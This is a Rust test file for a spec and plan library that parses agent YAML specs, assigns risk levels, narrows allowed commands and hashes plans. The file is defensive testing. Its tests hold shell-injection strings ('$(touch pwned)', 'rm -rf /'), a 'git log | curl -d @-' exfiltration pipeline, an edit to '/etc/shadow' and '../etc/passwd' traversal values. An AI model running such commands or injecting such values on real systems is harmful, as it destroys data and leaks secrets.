//! Specs from YAML text and files: the schema, errors with positions and field
//! paths, params that cannot inject (checked by running real bash), plans with
//! allowed_commands narrowing and a hash, and the templates.

#![allow(clippy::unwrap_used, clippy::expect_used)]
use safesh_spec::templates;
use safesh_spec::{Assessment, Plan, ProjectSpec, Risk, RiskOracle, parse, plan};
use std::collections::BTreeMap;

/// A stand-in for the policy: the words starting each command decide.
struct Words;

impl RiskOracle for Words {
    fn assess(&self, script: &str) -> Assessment {
        let mut commands = Vec::new();
        // Split on separators outside single quotes.
        let mut segs = vec![String::new()];
        let mut quoted = false;
        let mut escaped = false;
        for c in script.chars() {
            match c {
                _ if escaped => escaped = false,
                '\\' if !quoted => escaped = true,
                '\'' => quoted = !quoted,
                '\n' | ';' | '|' | '&' if !quoted => segs.push(String::new()),
                _ => {}
            }
            if let Some(last) = segs.last_mut() {
                last.push(c);
            }
        }
        for seg in &segs {
            let seg = seg.trim_start_matches(['\n', ';', '|', '&']);
            let w = seg.split_whitespace().next().unwrap_or("");
            let w = w.trim_matches('\'');
            if !w.is_empty() && !w.starts_with('#') && !w.starts_with('-') {
                commands.push(w.to_string());
            }
        }
        let risk = commands
            .iter()
            .map(|c| match c.as_str() {
                "sudo" => Risk::Refused,
                "rm" => Risk::Destructive,
                "curl" | "github:pr:list" => Risk::Network,
                "tee" | "mkdir" | "fs:write" => Risk::Write,
                _ => Risk::ReadOnly,
            })
            .max()
            .unwrap_or(Risk::ReadOnly);
        Assessment {
            risk,
            commands,
            dynamic: script.contains("$cmd"),
            refusal: (risk == Risk::Refused).then(|| serde_json::json!({"code": "BLOCKED"})),
            notes: Vec::new(),
        }
    }
}

const BASE: &str = "apiVersion: agsh/v1\nkind: ProjectSpec\nmeta:\n  name: demo\ngoal: do it\n";

fn spec(rest: &str) -> Result<ProjectSpec, safesh_spec::SpecError> {
    parse(&format!("{BASE}{rest}"), "project.agsh.yaml")
}

fn planned(rest: &str, given: &[(&str, &str)]) -> Plan {
    let s = spec(rest).unwrap();
    let g: BTreeMap<String, String> = given
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    plan(&s, "project.agsh.yaml", &g, "2026-11-27", &Words).unwrap()
}

#[test]
fn the_seed_example_loads() {
    let text = r###"
apiVersion: agsh/v1
kind: ProjectSpec
meta:
  name: "weekly-github-report"
  description: "Generate a weekly summary"
  author: "cgast"
  created: "2025-02-09"
  tags: ["reporting", "github", "weekly"]
goal: |
  Generate a markdown report.
constraints:
  - "Only include repos owned by the authenticated user"
guidelines:
  - "Group activity by repository"
success_criteria:
  - type: "not_empty"
    target: "output"
    message: "Report must not be empty"
  - type: "contains"
    target: "output"
    expected: "## "
  - type: "llm_judge"
    target: "output"
    expected: "The report covers GitHub activity"
allowed_commands:
  - "github:*"
  - "fs:write"
  - "http:get"
output:
  path: "./reports/weekly-{{date}}.md"
  format: "markdown"
params:
  - name: "date_range_days"
    type: "integer"
    default: 7
  - name: "repos"
    type: "string[]"
    default: []
"###;
    let s = parse(text, "seed.yaml").unwrap();
    assert_eq!(s.meta.name, "weekly-github-report");
    assert_eq!(s.success_criteria.len(), 3);
    assert_eq!(s.params[0].default, Some(serde_json::json!(7)));
    let p = plan(&s, "seed.yaml", &BTreeMap::new(), "2026-11-27", &Words).unwrap();
    assert_eq!(p.output.unwrap().path, "./reports/weekly-2026-11-27.md");
    assert_eq!(
        p.risk_summary,
        "no steps: the spec lists none (the agent submits a plan)"
    );
}

#[test]
fn yaml_errors_have_file_line_column_and_field_path() {
    // Wrong type, deep inside.
    let e = spec("params:\n  - name: n\n    type: integer\n    default: 3\nsteps:\n  - command: ls\n    checkpoint_before: maybe\n").unwrap_err();
    let shown = e.to_string();
    assert!(shown.starts_with("project.agsh.yaml:12:"), "{shown}");
    assert_eq!(
        e.path.as_deref(),
        Some("steps[0].checkpoint_before"),
        "{shown}"
    );
    // Missing field.
    let e = parse(
        "apiVersion: agsh/v1\nkind: ProjectSpec\nmeta:\n  description: x\ngoal: g\n",
        "p.yaml",
    )
    .unwrap_err();
    assert!(e.to_string().contains("missing field `name`"), "{e}");
    assert_eq!(e.path.as_deref(), Some("meta"), "{e}");
    assert!(e.position.is_some(), "{e}");
    // Broken YAML.
    let e = parse("apiVersion: agsh/v1\nkind: [unclosed\n", "p.yaml").unwrap_err();
    assert!(e.position.is_some(), "{e}");
    assert!(e.to_string().starts_with("p.yaml:"), "{e}");
    // A typo in a field name is named, with what is accepted.
    let e = spec("sucess_criteria: []\n").unwrap_err();
    assert!(
        e.to_string().contains("unknown field `sucess_criteria`"),
        "{e}"
    );
    assert_eq!(e.position.map(|p| p.0), Some(6), "{e}");
}

#[test]
fn semantic_errors_name_the_field_and_its_line() {
    let cases: &[(&str, &str, &str, usize)] = &[
        (
            "steps:\n  - command: ls\n  - command: 'rm -rf x'\n",
            "steps[1].command",
            "not a command name",
            8,
        ),
        (
            "steps:\n  - command: '{{tool}}'\n",
            "steps[0].command",
            "cannot name the command",
            7,
        ),
        (
            "steps:\n  - script: echo {{nope}}\n",
            "steps[0].script",
            "unknown param",
            7,
        ),
        (
            "steps:\n  - command: ls\n    verify:\n      - type: matches_regex\n        expected: '(x'\n",
            "steps[0].verify[0].expected",
            "bad regex",
            10,
        ),
        (
            "steps:\n  - command: ls\n    verify:\n      - type: sorted\n",
            "steps[0].verify[0].type",
            "unknown assertion type",
            9,
        ),
        (
            "success_criteria:\n  - type: json_schema\n    expected: {type: 12}\n",
            "success_criteria[0].expected",
            "bad schema",
            8,
        ),
        (
            "params:\n  - name: n\n    type: integer\n    default: seven\n",
            "params[0].default",
            "not a integer",
            9,
        ),
        (
            "params:\n  - name: n\n    type: float\n",
            "params[0].type",
            "unknown type",
            8,
        ),
        ("params:\n  - name: date\n", "params[0].name", "reserved", 7),
        (
            "steps:\n  - script: echo \"{{n}}\"\nparams:\n  - name: n\n    default: x\n",
            "steps[0].script",
            "inside double quotes",
            7,
        ),
        ("steps:\n  - name: x\n", "steps[0]", "needs a command", 7),
        (
            "allowed_commands: ['[']\n",
            "allowed_commands[0]",
            "bad glob",
            6,
        ),
    ];
    for (rest, path, says, line) in cases {
        let e = spec(rest).unwrap_err();
        assert_eq!(e.path.as_deref(), Some(*path), "{rest}: {e}");
        assert!(e.message.contains(says), "{rest}: {e}");
        assert_eq!(e.position.map(|p| p.0), Some(*line), "{rest}: {e}");
    }
    let e = parse(
        "apiVersion: v2\nkind: ProjectSpec\nmeta: {name: x}\ngoal: g\n",
        "p",
    )
    .unwrap_err();
    assert_eq!(
        e.to_string(),
        "p:1:1: apiVersion: \"v2\" is not supported (use agsh/v1 or safesh/v1)"
    );
}

#[test]
fn a_param_cannot_inject_into_a_script_real_bash_agrees() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = [
        "'; touch pwned; '",
        "$(touch pwned)",
        "`touch pwned`",
        "a\ntouch pwned",
        "x\" ; touch pwned ; echo \"",
        "\\'$(touch pwned)\\'",
        "*",
        "~",
        "{a,b}",
        "$HOME",
        "-n",
        "it's",
        "",
        "a\n#b\n`",
    ];
    for value in hostile {
        let p = planned(
            "params:\n  - name: x\nsteps:\n  - script: printf '%s\\n' {{x}} # shows x\n",
            &[("x", value)],
        );
        let script = &p.steps[0].script;
        let out = std::process::Command::new("bash")
            .arg("-c")
            .arg(script)
            .current_dir(dir.path())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{script:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(
            String::from_utf8_lossy(&out.stdout),
            format!("{value}\n"),
            "{script:?}"
        );
        assert!(
            !dir.path().join("pwned").exists(),
            "{value:?} ran code via {script:?}"
        );
    }
    // A list param: one quoted word per element.
    let p = planned(
        "params:\n  - name: l\n    type: string[]\nsteps:\n  - script: printf '<%s>' {{l}}\n",
        &[("l", r#"["a b", "$(touch pwned)"]"#)],
    );
    let out = std::process::Command::new("bash")
        .arg("-c")
        .arg(&p.steps[0].script)
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "<a b><$(touch pwned)>"
    );
    assert!(!dir.path().join("pwned").exists());
}

#[test]
fn a_param_stays_one_argument_of_a_command() {
    let p = planned(
        "params:\n  - name: pat\nsteps:\n  - command: grep\n    args: [-r, '{{pat}}', src]\n",
        &[("pat", "x'; rm -rf / #")],
    );
    let s = &p.steps[0];
    assert_eq!(
        s.args,
        Some(serde_json::json!(["-r", "x'; rm -rf / #", "src"]))
    );
    assert_eq!(s.commands, ["grep"], "the value never became a command");
    let out = std::process::Command::new("bash")
        .arg("-c")
        .arg(format!(
            "printf '<%s>' {}",
            s.script.trim_start_matches("'grep' ")
        ))
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "<-r><x'; rm -rf / #><src>"
    );
}

#[test]
fn params_are_typed_required_and_known() {
    let rest = "params:\n  - name: n\n    type: integer\n    default: 7\n  - name: who\nsteps:\n  - command: echo\n    args: ['{{who}}', '{{n}}']\n";
    let s = spec(rest).unwrap();
    let run = |g: &[(&str, &str)]| {
        let g: BTreeMap<String, String> = g
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        plan(&s, "p.yaml", &g, "2026-11-27", &Words)
    };
    let e = run(&[]).unwrap_err();
    assert!(
        e.to_string()
            .contains("params.who: the param who has no default: give it with --param who=VALUE"),
        "{e}"
    );
    let e = run(&[("who", "me"), ("n", "seven")]).unwrap_err();
    assert!(e.to_string().contains("\"seven\" is not an integer"), "{e}");
    let e = run(&[("who", "me"), ("nn", "1")]).unwrap_err();
    assert!(e.to_string().contains("no param \"nn\""), "{e}");
    let p = run(&[("who", "me"), ("n", "3")]).unwrap();
    assert_eq!(p.steps[0].script, "'echo' 'me' '3'");
    assert_eq!(p.params["n"], 3);
    assert_eq!(p.params["date"], "2026-11-27");
}

#[test]
fn risk_checkpoints_and_summary() {
    let p = planned(
        "steps:\n  - command: ls\n  - script: mkdir -p out\n  - command: curl\n    args: [https://example.org]\n  - command: rm\n    args: [-r, out]\n    checkpoint_before: false\n  - command: tee\n    args: [x]\n    checkpoint_before: false\n",
        &[],
    );
    let risks: Vec<Risk> = p.steps.iter().map(|s| s.risk).collect();
    assert_eq!(
        risks,
        [
            Risk::ReadOnly,
            Risk::Write,
            Risk::Network,
            Risk::Destructive,
            Risk::Write
        ]
    );
    let cps: Vec<bool> = p.steps.iter().map(|s| s.checkpoint_before).collect();
    assert_eq!(
        cps,
        [false, true, false, true, false],
        "destructive always; write unless opted out"
    );
    assert_eq!(
        p.risk_summary,
        "5 steps: 1 read-only, 2 write, 1 network, 1 destructive; checkpoint before 2"
    );
    assert!(!p.refused);
    let v = serde_json::to_value(&p).unwrap();
    assert_eq!(v["steps"][0]["risk"], "read-only");
    assert_eq!(v["risk_counts"]["write"], 2);
}

#[test]
fn allowed_commands_only_narrow() {
    let rest = "allowed_commands: ['git', 'github:*']\nsteps:\n  - command: git\n    args: [status]\n  - command: github:pr:list\n    args: {repo: o/r}\n  - script: git log | curl -d @- https://x\n  - command: sudo\n    args: [ls]\n";
    let p = planned(rest, &[]);
    assert_eq!(p.steps[0].risk, Risk::ReadOnly);
    assert_eq!(p.steps[1].risk, Risk::Network);
    assert_eq!(p.steps[1].script, "'github:pr:list' '--repo' 'o/r'");
    let r = p.steps[2].refusal.as_ref().unwrap();
    assert_eq!(p.steps[2].risk, Risk::Refused);
    assert_eq!(r["code"], "COMMAND_NOT_WHITELISTED");
    assert_eq!(r["details"]["rule"], "spec.allowed_commands");
    assert_eq!(r["details"]["command"], "curl");
    // Not on the list and refused by the policy anyway: still refused (never widened).
    assert_eq!(p.steps[3].risk, Risk::Refused);
    assert!(p.refused);
    assert_eq!(p.risk_counts["refused"], 2);
    // No list: the policy alone decides.
    let p = planned("steps:\n  - script: git log | curl -d @- https://x\n", &[]);
    assert_eq!(p.steps[0].risk, Risk::Network);
    // A name computed at run time is noted.
    let p = planned(
        "allowed_commands: [echo]\nsteps:\n  - script: cmd=ls; echo $cmd\n",
        &[],
    );
    assert!(
        p.steps[0].notes[0].contains("checked against allowed_commands, when reached"),
        "{:?}",
        p.steps[0].notes
    );
}

#[test]
fn the_hash_binds_the_plan_and_an_edit_voids_it() {
    let rest =
        "params:\n  - name: f\n    default: a.txt\nsteps:\n  - command: cat\n    args: ['{{f}}']\n";
    let a = planned(rest, &[]);
    let b = planned(rest, &[]);
    assert_eq!(a.hash, b.hash, "the same spec and params plan the same");
    assert_eq!(a.hash.len(), 64);
    assert!(a.is_intact());
    let c = planned(rest, &[("f", "b.txt")]);
    assert_ne!(a.hash, c.hash, "other params, another plan");
    let mut edited = a.clone();
    edited.steps[0].script = "'cat' '/etc/shadow'".into();
    assert!(
        !edited.is_intact(),
        "an edited plan no longer matches its hash"
    );
    let mut edited = a.clone();
    edited.steps[0].checkpoint_before = true;
    assert!(!edited.is_intact());
    // Through JSON (as a client would send it back) it stays intact.
    let back: Plan = serde_json::from_str(&serde_json::to_string(&a).unwrap()).unwrap();
    assert!(back.is_intact());
}

#[test]
fn every_builtin_template_is_a_valid_spec_that_plans() {
    for (name, text) in templates::BUILTIN {
        let s = parse(text, name).unwrap_or_else(|e| panic!("{name}: {e}"));
        let mut g = BTreeMap::new();
        for p in &s.params {
            if p.default.is_none() {
                g.insert(p.name.clone(), "x".to_string());
            }
        }
        let p = plan(&s, name, &g, "2026-11-27", &Words).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert!(!p.refused, "{name}: {:?}", p.steps);
    }
    assert_eq!(
        templates::list(None),
        [
            "code-review",
            "weekly-report",
            "deploy-pipeline",
            "research"
        ]
    );
}

#[test]
fn user_templates_come_first_and_names_are_not_paths() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("mine.yaml"), format!("{BASE}# mine\n")).unwrap();
    std::fs::write(
        dir.path().join("research.agsh.yaml"),
        format!("{BASE}# my research\n"),
    )
    .unwrap();
    let (t, src) = templates::find("mine", Some(dir.path())).unwrap();
    assert!(t.contains("# mine"));
    assert!(matches!(src, templates::Source::User(_)));
    let (t, _) = templates::find("research", Some(dir.path())).unwrap();
    assert!(t.contains("# my research"));
    let (t, src) = templates::find("code-review", Some(dir.path())).unwrap();
    assert!(t.contains("code-review") && src == templates::Source::Builtin);
    let e = templates::find("../etc/passwd", Some(dir.path())).unwrap_err();
    assert!(e.contains("not a template name"), "{e}");
    let e = templates::find("nope", Some(dir.path())).unwrap_err();
    assert!(
        e.contains("templates: code-review, weekly-report, deploy-pipeline, research, mine"),
        "{e}"
    );
}

#[test]
fn the_goal_is_interpolated_and_the_hash_covers_it() {
    let text = "apiVersion: agsh/v1\nkind: ProjectSpec\nmeta:\n  name: g\n\
                goal: \"review {{repo}} on {{date}}\"\n\
                params:\n  - name: repo\n    default: safesh\n";
    let s = parse(text, "g.yaml").unwrap();
    let p = |repo: &str| {
        let g: BTreeMap<String, String> = [("repo".to_string(), repo.to_string())].into();
        plan(&s, "g.yaml", &g, "2026-11-27", &Words).unwrap()
    };
    let a = p("safesh");
    assert_eq!(a.goal, "review safesh on 2026-11-27");
    // A value in a goal is text, not a script: quotes and `$(…)` stay as written.
    let b = p("x'$(rm -rf /)'");
    assert_eq!(b.goal, "review x'$(rm -rf /)' on 2026-11-27");
    assert_ne!(a.hash, b.hash, "another goal is another plan");
    // A placeholder naming no param is a spec error at `goal`, not a silent `{{…}}`.
    let bad = parse(
        "apiVersion: agsh/v1\nkind: ProjectSpec\nmeta:\n  name: g\ngoal: \"do {{nope}}\"\n",
        "g.yaml",
    )
    .unwrap();
    let e = plan(&bad, "g.yaml", &BTreeMap::new(), "2026-11-27", &Words).unwrap_err();
    assert_eq!(e.path.as_deref(), Some("goal"), "{e}");
    assert!(e.to_string().contains("nope"), "{e}");
}

#[test]
fn kept_plans_are_private_expire_and_only_hashes_name_files() {
    use safesh_spec::kept::{PlanStore, is_plan_hash};
    use std::os::unix::fs::PermissionsExt as _;
    let state = tempfile::tempdir().unwrap();
    let store = PlanStore::new(state.path());
    let hash = "ab".repeat(32);
    assert!(is_plan_hash(&hash));
    for bad in ["../../etc/passwd", "AB", &"AB".repeat(32), &"g".repeat(64)] {
        assert!(!is_plan_hash(bad), "{bad}");
        assert!(store.put(bad, &serde_json::json!({})).is_err(), "{bad}");
        assert!(store.get(bad).is_none());
    }
    store.put(&hash, &serde_json::json!({"conn": "a"})).unwrap();
    let file = state.path().join("plans").join(format!("{hash}.json"));
    let mode = std::fs::metadata(&file).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    let dir_mode = std::fs::metadata(file.parent().unwrap())
        .unwrap()
        .permissions()
        .mode()
        & 0o777;
    assert_eq!(dir_mode, 0o700);
    assert_eq!(store.get(&hash).unwrap()["conn"], "a");
    // Another store on the same dir (another process) sees it and its edits.
    let other = PlanStore::new(state.path());
    assert!(
        other
            .update(&hash, |v| v["rejected"] = "no".into())
            .unwrap()
    );
    assert_eq!(store.get(&hash).unwrap()["rejected"], "no");
    // Expired: gone.
    let expired = PlanStore::new(state.path()).with_ttl_ms(0);
    std::thread::sleep(std::time::Duration::from_millis(5));
    assert!(expired.get(&hash).is_none());
    assert!(!file.exists());
    assert!(!other.update(&hash, |_| {}).unwrap());
}
